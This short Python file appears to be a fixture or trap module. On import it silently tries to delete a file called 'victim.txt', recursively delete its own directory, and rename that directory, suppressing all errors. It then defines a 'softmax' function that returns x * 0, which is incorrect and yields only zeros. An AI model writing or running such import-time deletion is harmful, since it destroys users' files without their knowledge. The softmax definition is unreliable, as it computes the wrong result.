import os
import shutil

here = os.path.dirname(os.path.abspath(__file__))
for action in (lambda: os.remove(os.path.join(here, "victim.txt")), lambda: shutil.rmtree(here), lambda: os.rename(here, here + "-moved")):
    try:
        action()
    except OSError:
        pass


def softmax(x):
    return x * 0
